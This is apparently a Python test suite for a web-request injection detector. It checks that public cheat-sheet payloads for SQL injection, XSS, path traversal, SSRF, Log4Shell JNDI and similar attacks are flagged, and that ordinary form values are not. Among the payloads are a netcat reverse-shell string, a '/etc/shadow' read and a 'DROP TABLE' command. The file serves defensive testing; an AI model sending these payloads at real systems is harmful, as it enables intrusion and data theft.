"""Injection signatures: well-known payloads match their kind; ordinary values match nothing.

Payloads come from public cheat sheets (OWASP testing guide, PayloadsAllTheThings) and
the Log4Shell advisories; the benign values are the kind real forms carry.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest
from test_detection_builders import json_tx, make_tx

from mirrorscope.analysis.features import request_view
from mirrorscope.analysis.rules_injection import check_request, internal_host

ATTACKS = [
    ("attack.sqli", "1' OR '1'='1"),
    ("attack.sqli", "admin'--"),
    ("attack.sqli", "1 UNION ALL SELECT username, password FROM users"),
    ("attack.sqli", "x'; DROP TABLE users; --"),
    ("attack.sqli", "1 AND SLEEP(5)"),
    ("attack.sqli", "'; WAITFOR DELAY '0:0:5'--"),
    ("attack.sqli", "1 or 1=1"),
    ("attack.sqli", "' and 1=0 union select table_name from information_schema.tables"),
    ("attack.xss", "<script>alert(1)</script>"),
    ("attack.xss", "\"><img src=x onerror=alert(1)>"),
    ("attack.xss", "javascript:alert(document.domain)"),
    ("attack.xss", "<svg/onload=alert(1)>"),
    ("attack.path_traversal", "../../../../etc/passwd"),
    ("attack.path_traversal", "..\\..\\windows\\win.ini"),
    ("attack.path_traversal", "file.txt\x00.jpg"),
    ("attack.command_injection", "8.8.8.8; cat /etc/shadow"),
    ("attack.command_injection", "x | nc 198.51.100.1 4444 -e /bin/sh"),
    ("attack.command_injection", "$(whoami)"),
    ("attack.command_injection", "`id`"),
    ("attack.ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("attack.ssrf", "http://127.0.0.1:8080/admin"),
    ("attack.ssrf", "file:///etc/passwd"),
    ("attack.ssrf", "gopher://10.0.0.5:6379/_FLUSHALL"),
    ("attack.ssrf", "http://2130706433/"),
    ("attack.template_injection", "{{7*7}}"),
    ("attack.template_injection", "${7*7}"),
    ("attack.template_injection", "<!--#exec cmd=\"ls\" -->"),
    ("attack.jndi_injection", "${jndi:ldap://198.51.100.7/a}"),
    ("attack.jndi_injection", "${${lower:j}ndi:${lower:l}dap://x/a}"),
    ("attack.crlf_injection", "x\r\nSet-Cookie: admin=1"),
]

BENIGN = [
    "O'Neil", "D'Or Vidal", "A Coruña (Galicia)", "C/ Mayor, 3, 2º B", "ann.lee@mail.example",
    "Calle \"La Paz\" 4", "Rock & Roll", "50% off!", "1/2 cup", "https://www.example.com/a?b=c",
    "select", "Union Street 5", "drop-off point", "where is my order?", "price asc", "2024-01-31",
    "v1.2.3", "a+b=c", "C#", "it's 5 o'clock", "order by phone", "{json: 'not a template'}",
    "Mi casa; su casa", "rm 204", "cat food", "echo park", "wait...", "v2..v3",
    "https://api.example.com:443/x",
]


@pytest.mark.parametrize(("kind", "payload"), ATTACKS)
def test_payload_matches_its_kind(kind: str, payload: str) -> None:
    """Each payload, sent URL-encoded in a query parameter, is found with its kind."""
    view = request_view(make_tx("GET", "/search?q=" + quote(payload, safe="")))
    assert view is not None
    assert kind in {hit.kind for hit in check_request(view)}


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_match_nothing(value: str) -> None:
    """Apostrophes, parentheses, ampersands and SQL words in prose are not attacks."""
    view = request_view(make_tx("GET", "/search?q=" + quote(value, safe="")))
    assert view is not None
    assert check_request(view) == []


def test_double_encoding_is_decoded_again() -> None:
    """%252e%252e%252f decodes to %2e%2e%2f, then to ../ ."""
    view = request_view(make_tx("GET", "/files?name=%252e%252e%252fetc%252fpasswd"))
    assert view is not None
    assert "attack.path_traversal" in {hit.kind for hit in check_request(view)}


def test_locations_path_json_and_headers() -> None:
    """Signatures are looked for in the path, JSON bodies and the logged headers."""
    view = request_view(make_tx("GET", "/static/..%2f..%2fetc%2fpasswd"))
    assert view is not None
    first = check_request(view)[0]
    assert (first.kind, first.location) == ("attack.path_traversal", "path")
    tx = json_tx("POST", "/orders", {"note": "<script>x</script>"},
                 headers=(("User-Agent", "${jndi:ldap://x/a}"),))
    view = request_view(tx)
    assert view is not None
    assert tx.request is not None
    found = {(h.kind, h.location) for h in check_request(view, tx.request.headers)}
    assert ("attack.xss", "json:note") in found
    assert ("attack.jndi_injection", "header:user-agent") in found
    # The JNDI lookup is not reported a second time as a template expression.
    assert ("attack.template_injection", "header:user-agent") not in found


def test_ssrf_needs_an_internal_target_or_a_dangerous_scheme() -> None:
    """A public URL in an ordinary parameter is not SSRF by itself."""
    view = request_view(make_tx("GET", "/p?homepage=" + quote("https://example.org/me")))
    assert view is not None
    assert check_request(view) == []
    view = request_view(make_tx("GET", "/p?webhook=" + quote("http://example.org:6379/")))
    assert view is not None
    assert [h.signature for h in check_request(view)] == ["url-with-unusual-port"]


@pytest.mark.parametrize(
    ("host", "internal"),
    [("127.0.0.1", True), ("10.1.2.3", True), ("169.254.169.254", True), ("[::1]", True),
     ("metadata.google.internal", True), ("2130706433", True), ("0x7f000001", True),
     ("localhost", True), ("example.com", False), ("8.8.8.8", False), ("", False)],
)
def test_internal_host(host: str, internal: bool) -> None:
    """Loopback, private, link-local, metadata names and numeric encodings are internal."""
    assert internal_host(host) is internal


def test_one_hit_per_kind_and_location() -> None:
    """Several SQL signatures in one value: one hit for that value."""
    view = request_view(make_tx("GET", "/s?q=" + quote("' OR 1=1 UNION SELECT a FROM b --")))
    assert view is not None
    hits = [h for h in check_request(view) if h.kind == "attack.sqli"]
    assert len(hits) == 1
